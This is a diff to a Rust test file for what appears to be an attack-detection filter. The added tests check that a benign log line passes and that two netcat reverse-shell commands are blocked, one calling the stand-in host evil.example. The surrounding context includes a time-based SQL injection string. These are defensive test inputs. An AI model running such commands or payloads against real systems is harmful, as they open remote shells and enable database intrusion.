@@ -162,6 +162,13 @@ fn prose_mentions_paths_and_calls_in_passing() {
          auth nor an explicit auth argument is given, which surprised us in production.",
         "The existing approach was missing necessary files, such as tests/id_rsa.pub",
     ]);
+    // A log record opens with its program's name and a date; a netcat
+    // reverse shell names its host first.
+    messages_pass(&[
+        "update-alternatives 2025-06-24 14:39:44: run with --install /usr/bin/jar jar /usr/lib/jvm/bin/jar 1711",
+    ]);
+    blocks(message("nc 10.0.0.1 4444 -e /bin/sh"), Class::Rce);
+    blocks(message("ncat evil.example 443 -c bash"), Class::Rce);
     // A method named sleep is no time-based injection.
     messages_pass(&["Between polls the client calls time.sleep(5), and asyncio.sleep(0) yields."]);
     blocks(query("id=1%20and%20sleep(5)%23"), Class::Sqli);
